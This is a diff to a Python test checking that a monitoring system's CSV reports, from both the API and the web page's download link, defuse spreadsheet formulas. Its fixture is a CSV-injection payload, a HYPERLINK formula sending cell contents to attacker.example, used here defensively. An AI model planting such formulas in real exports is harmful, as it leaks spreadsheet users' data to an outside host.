@@ -11,6 +11,7 @@ from pathlib import Path
 from typing import Any
 from zoneinfo import ZoneInfo
 
+import httpx
 import pytest
 from playwright.sync_api import Browser
 
@@ -126,8 +127,8 @@ FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem chi tiết")'
 
 
 def test_report_csv_defuses_spreadsheet_formulas(rig: TelemetryRig) -> None:
-    """A unit name or bulletin title a spreadsheet would run comes out as text ('=...); the
-    monitoring page's CSV link writes the same file (``telemetry.csvout.report_csv``)."""
+    """A unit name or bulletin title a spreadsheet would run comes out as text ('=...), from
+    the API's CSV and from the monitoring page's CSV link alike."""
     stack = rig.stack
     province = add_unit(stack.api, "tinh-f", "province", name="+Tỉnh F")
     commune = add_unit(stack.api, "xa-f", "commune", province, name=FORMULA)
@@ -139,10 +140,17 @@ def test_report_csv_defuses_spreadsheet_formulas(rig: TelemetryRig) -> None:
         "targets": {"unit_ids": [commune["id"]]}})
     poll(lambda: stack.plays(schedule_id=schedule["id"]), lambda plays: len(plays) == 1, 20,
          "the scheduled play")
-    r = stack.api.get("/api/v1/monitoring/reports/plays", params={
+    from_api = stack.api.get("/api/v1/monitoring/reports/plays", params={
         "unit_id": province["id"], "start": (start - timedelta(hours=1)).isoformat(),
         "end": (start + timedelta(hours=1)).isoformat(), "format": "csv"})
-    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
-    row, total = csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))
-    assert (row["unit_name"], row["bulletin_title"]) == ("'" + FORMULA, "'@Bản tin " + FORMULA)
-    assert (total["unit_name"], total["scheduled"]) == ("'+Tỉnh F", "1")
+    day = start.astimezone(ZoneInfo("Asia/Ho_Chi_Minh")).date().isoformat()
+    with httpx.Client(follow_redirects=True, timeout=30) as pages:  # signs in, then the file
+        from_page = pages.get(sign_in_link(
+            rig.center, next=f"/monitor/reports.csv?unit_id={province['id']}&start={day}"
+                             f"&end={day}"))
+    for r in (from_api, from_page):
+        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
+        row, total = csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))
+        assert (row["unit_name"], row["bulletin_title"]) == ("'" + FORMULA,
+                                                             "'@Bản tin " + FORMULA)
+        assert (total["unit_name"], total["scheduled"]) == ("'+Tỉnh F", "1")
